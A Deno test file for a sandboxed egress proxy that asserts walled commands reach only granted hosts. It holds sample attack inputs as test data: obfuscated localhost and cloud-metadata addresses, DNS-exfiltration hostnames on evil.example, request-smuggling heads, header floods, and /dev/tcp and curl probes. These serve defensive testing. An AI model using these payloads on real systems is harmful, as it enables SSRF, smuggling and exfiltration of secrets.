/** What runs behind walls tries to reach more through its way out than was granted to the command that runs now. */
import assert from "node:assert/strict";
import { AppError } from "#/core/error.ts";
import { LIMITS } from "#/core/limits.ts";
import type { ConnectTarget } from "#/sandbox/tunnel.ts";
import { FORWARD_SCRIPT } from "#/sandbox/tunnel_forward.ts";
import { TunnelServer } from "#/sandbox/tunnel_server.ts";
import { toNet } from "../sandbox/egress_kit.ts";
import { hasBwrap, runWalled } from "../sandbox/tunnel_inside.ts";
import { echo, mirror, openRealTunnels, openServer, readAll, readUntil, say, until } from "../sandbox/tunnel_kit.ts";

const everything = () => true;

/** Spellings of this machine and of the network around it, with `PORT` for a server's. */
const INSIDE =
  "127.0.0.1 127.1 2130706433 017700000001 0x7f000001 0x7f.1 0177.0.0.1 localhost LOCALHOST. ip6-localhost 0.0.0.0 0 [::1] [::] " +
  "[::ffff:127.0.0.1] [::ffff:7f00:1] [::127.0.0.1] [0:0:0:0:0:ffff:7f00:1] [64:ff9b::7f00:1] [2002:7f00:1::] " +
  "169.254.169.254 2852039166 0xa9fea9fe [::ffff:169.254.169.254] 10.0.0.1 172.17.0.1 192.168.1.1 100.64.0.1 100.100.100.200 " +
  "168.63.129.16 [fd00:ec2::254] [fe80::1] 224.0.0.1 255.255.255.255";

Deno.test("tunnel: no spelling of an address inside is reached, though everything is granted", async () => {
  using inside = openServer(echo);
  await using tunnels = openRealTunnels();
  const tunnel = await tunnels.open("a", everything);
  await tunnel.arm();
  for (const host of INSIDE.split(" ")) {
    for (const port of [inside.port, 80]) {
      for (const text of [`CONNECT ${host}:${port} HTTP/1.1\r\n\r\n`, `GET http://${host}:${port}/ HTTP/1.1\r\n\r\n`]) {
        const answer = await say(tunnel.dir, text);
        // A name that the machine does not know at all is not resolved.
        assert.match(answer, /^HTTP\/1\.1 (403 .*not public|502 ip6-localhost cannot be resolved)/, text);
      }
    }
  }
  assert.equal(inside.accepted(), 0);
});

Deno.test("tunnel: an IPv4 address inside stays closed by Deno's flags when the address check is gone", async () => {
  using inside = openServer(echo);
  await using tunnels = openRealTunnels();
  const [plan] = tunnels.plans;
  const flags = plan!.args.slice(0, -1);
  const script =
    `Deno.connect({ hostname: "127.0.0.1", port: ${inside.port} }).then(() => console.log("through"), (e) => console.log(e.name))`;
  const file = Deno.makeTempFileSync({ suffix: ".js" });
  Deno.writeTextFileSync(file, script);
  const { stdout } = await new Deno.Command(plan!.command, { args: [...flags, file], env: plan!.env, clearEnv: true })
    .output();
  Deno.removeSync(file);
  assert.equal(new TextDecoder().decode(stdout), "NotCapable\n");
  assert.equal(inside.accepted(), 0);
});

Deno.test("tunnel: a name that changes between check and connect is asked once, and the checked address is dialled", async () => {
  using far = openServer(echo);
  const net = toNet([["93.184.216.34"], ["127.0.0.1"]], far.port);
  const dir = Deno.makeTempDirSync({ prefix: "ox-net-" });
  const server = new TunnelServer({
    ask: () => Promise.resolve({ kind: "public" }),
    onEnd: () => {},
    net,
    now: () => 0,
    limits: LIMITS,
  });
  try {
    await server.listen(0, `${dir}/proxy.sock`);
    using connection = await Deno.connect({ transport: "unix", path: `${dir}/proxy.sock` });
    await connection.write(new TextEncoder().encode("CONNECT rebind.example:443 HTTP/1.1\r\n\r\n"));
    await readUntil(connection, "\r\n\r\n");
    assert.deepEqual([net.resolved, net.dialled], [["rebind.example"], ["93.184.216.34 443"]]);
    // Again: now the name leads inside.
    assert.match(await say(dir, "CONNECT rebind.example:443 HTTP/1.1\r\n\r\n"), /^HTTP\/1\.1 403 .*not public/);
    assert.equal(net.dialled.length, 1);
  } finally {
    await server.close();
    Deno.removeSync(dir, { recursive: true });
  }
});

Deno.test("tunnel: what is granted is one host and one port, as they are read and not as they are written", async () => {
  using granted = openServer(mirror);
  using other = openServer(mirror);
  const asked: ConnectTarget[] = [];
  await using tunnels = openRealTunnels({ allowlist: [`127.0.0.1:${granted.port}`, `127.0.0.1:${other.port}`] });
  const tunnel = await tunnels.open("a", (target) => {
    asked.push(target);
    return target.host === "127.0.0.1" && target.port === granted.port;
  });
  const free = await tunnels.open("b", everything);
  await Promise.all([tunnel.arm(), free.arm()]);
  const here = `127.0.0.1:${granted.port}`;
  const there = `127.0.0.1:${other.port}`;
  for (
    const text of [
      `CONNECT ${there} HTTP/1.1\r\nHost: ${here}\r\n\r\n`,
      `CONNECT 0x7f.1:${other.port} HTTP/1.1\r\nHost: ${here}\r\n\r\n`,
      `GET http://${there}/ HTTP/1.1\r\nHost: ${here}\r\n\r\n`,
      // As if it came from our other process, for a tunnel that may more.
      `CONNECT ${there} HTTP/1.1\r\nOxydra-Tunnel: 1\r\n\r\n`,
    ]
  ) {
    assert.match(await say(tunnel.dir, text), /^HTTP\/1\.1 403 127\.0\.0\.1:\d+ was not granted/, text);
  }
  for (
    const uri of [
      `http://${here}@${there}/`,
      `http://me:pw@${here}/`,
      `http://${here}\\@${there}/`,
      `http://${here}#@${there}/`,
      `http://${here}%2f@${there}/`,
    ]
  ) {
    const answer = await say(tunnel.dir, `GET ${uri} HTTP/1.1\r\nHost: ${there}\r\n\r\n`);
    if (/^HTTP\/1\.1 40[03] /.test(answer)) continue;
    assert.match(answer, new RegExp(`\r\nHost: ${here}\r\n`), uri);
  }
  const answer = await say(tunnel.dir, `GET http://${here}/ HTTP/1.1\r\nHost: ${there}\r\nX-Host: ${there}\r\n\r\n`);
  assert.match(answer, new RegExp(`\r\nHost: ${here}\r\n`), "the Host is the target's");
  assert.doesNotMatch(answer, new RegExp(`\r\nHost: ${there}`));
  assert.equal(other.accepted(), 0);
  assert.ok(asked.length >= 5);
});

Deno.test("tunnel: a name that is not granted is never resolved, so that none carries a secret out", async () => {
  const dir = Deno.makeTempDirSync({ prefix: "ox-net-" });
  const net = toNet([], 1);
  const server = new TunnelServer({
    ask: () => Promise.reject(new AppError("egress_denied", "not granted")),
    onEnd: () => {},
    net,
    now: () => 0,
    limits: LIMITS,
  });
  try {
    await server.listen(0, `${dir}/proxy.sock`);
    for (
      const text of [
        "CONNECT c2VjcmV0.evil.example:53",
        "CONNECT a.b.c.d.evil.example:443",
        "GET http://x.evil.example/",
      ]
    ) {
      assert.match(await say(dir, `${text} HTTP/1.1\r\n\r\n`), /^HTTP\/1\.1 403 not granted/);
    }
    assert.deepEqual([net.resolved, net.dialled], [[], []]);
  } finally {
    await server.close();
    Deno.removeSync(dir, { recursive: true });
  }
});

Deno.test("tunnel: a connection that a command keeps open is cut when its grant ends, and no new one is made", async () => {
  using far = openServer(echo);
  await using tunnels = openRealTunnels({ allowlist: [`127.0.0.1:${far.port}`] });
  let isOpen = true;
  const tunnel = await tunnels.open("a", () => isOpen);
  await tunnel.arm();
  const text = `CONNECT 127.0.0.1:${far.port} HTTP/1.1\r\n\r\n`;
  using kept = await Deno.connect({ transport: "unix", path: `${tunnel.dir}/proxy.sock` });
  await kept.write(new TextEncoder().encode(text));
  await readUntil(kept, "\r\n\r\n");
  // One that waits with its head half written, to be finished when nobody looks.
  using late = await Deno.connect({ transport: "unix", path: `${tunnel.dir}/proxy.sock` });
  await late.write(new TextEncoder().encode(text.slice(0, -2)));
  isOpen = false;
  await tunnel.cut();
  await kept.write(new TextEncoder().encode("secret")).catch(() => {});
  await kept.closeWrite().catch(() => {});
  assert.equal(await readAll(kept), "");
  await late.write(new TextEncoder().encode("\r\n"));
  assert.match(await readAll(late), /^HTTP\/1\.1 403 /);
  await until(() => tunnels.ends.length > 0);
  assert.match(tunnels.ends[0]!.reason ?? "closed", /was not granted|closed/);
  assert.equal(tunnels.ends.reduce((sum, { upBytes }) => sum + upBytes, 0), 0, "nothing of it came through");
});

Deno.test("tunnel: a second request on a connection reaches nobody, however its body is measured", async () => {
  using granted = openServer(mirror);
  await using tunnels = openRealTunnels({ allowlist: [`127.0.0.1:${granted.port}`] });
  const tunnel = await tunnels.open("a", everything);
  await tunnel.arm();
  const url = `http://127.0.0.1:${granted.port}/`;
  const second = "GET http://other.example/ HTTP/1.1\r\nHost: other.example\r\n\r\n";
  for (
    const head of [
      `GET ${url} HTTP/1.1\r\n\r\n`,
      `GET ${url} HTTP/1.1\r\nConnection: keep-alive, content-length\r\nContent-Length: 0\r\n\r\n`,
      `POST ${url} HTTP/1.1\r\nContent-Length: 3\r\n\r\nabc`,
      `POST ${url} HTTP/1.1\r\nContent-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n`,
      `POST ${url} HTTP/1.1\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\n`,
      `POST ${url} HTTP/1.1\r\nContent-Length: 3\r\nContent-Length: 60\r\n\r\nabc`,
      `GET ${url} HTTP/1.1\nA: b\r\n\r\n`,
    ]
  ) {
    const answer = await say(tunnel.dir, head + second);
    assert.doesNotMatch(answer, /other\.example/, JSON.stringify(head));
  }
});

Deno.test("tunnel: floods, bombs and requests without end take their own room and no other tunnel's", async () => {
  await using tunnels = openRealTunnels();
  const [hostile, other] = [await tunnels.open("a", everything), await tunnels.open("b", everything)];
  await Promise.all([hostile.arm(), other.arm()]);
  const dial = () => Deno.connect({ transport: "unix", path: `${hostile.dir}/proxy.sock` });
  const bomb = await dial();
  const chunk = new TextEncoder().encode("A: b\r\n".repeat(1_000));
  await bomb.write(new TextEncoder().encode("GET http://a/ HTTP/1.1\r\n"));
  let written = 0;
  try {
    for (; written < 10_000_000; written += chunk.length) await bomb.write(chunk);
  } catch {
    // It was refused in the middle.
  }
  assert.match(await readAll(bomb), /^HTTP\/1\.1 431 /);
  assert.ok(written < 10_000_000);
  bomb.close();
  const held = [];
  let refused = 0;
  for (let i = 0; i < LIMITS.tunnelConnectionsMax + 20; i++) {
    const one = await dial();
    await one.write(new TextEncoder().encode("CONNECT a")).catch(() => {});
    held.push(one);
  }
  for (const one of held.slice(LIMITS.tunnelConnectionsMax)) {
    if (/^HTTP\/1\.1 503 /.test(await readAll(one))) refused++;
  }
  assert.equal(refused, 20);
  assert.match(await say(other.dir, "x\r\n\r\n"), /^HTTP\/1\.1 400 /, "the other tunnel answers");
  for (const one of held) one.close();
  assert.equal(tunnels.pids.length, 1, "the process lives");
});

Deno.test({
  name: "tunnel: from behind real walls there is this one socket: no other session's, no network beside it",
  ignore: !hasBwrap,
  async fn() {
    using inside = openServer(echo);
    await using tunnels = openRealTunnels();
    const [mine, other] = [await tunnels.open("a", everything), await tunnels.open("b", everything)];
    await Promise.all([mine.arm(), other.arm()]);
    const text = await runWalled(
      mine.dir,
      [
        "ls /run/oxydra-net",
        `ls ${other.dir} 2>&1 | grep -c "No such file"`,
        "touch /run/oxydra-net/x 2>/dev/null || echo read-only",
        "rm /run/oxydra-net/proxy.sock 2>/dev/null || echo read-only",
        "ls /sys/class/net 2>/dev/null; tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' '",
        `(echo > /dev/tcp/127.0.0.1/${inside.port}) 2>/dev/null || echo closed`,
        "(echo > /dev/tcp/1.1.1.1/53) 2>/dev/null || echo closed",
        "getent hosts example.com || echo unresolved",
        `curl -sS --noproxy "" -o /dev/null -w "%{http_code}" http://127.0.0.1:${inside.port}/`,
      ].join("\n"),
    );
    assert.equal(
      text,
      "ready\nproxy.sock\n1\nread-only\nread-only\nlo\nclosed\nclosed\nunresolved\n403",
    );
    assert.equal(inside.accepted(), 0);
    assert.doesNotMatch(FORWARD_SCRIPT, /import/);
  },
});
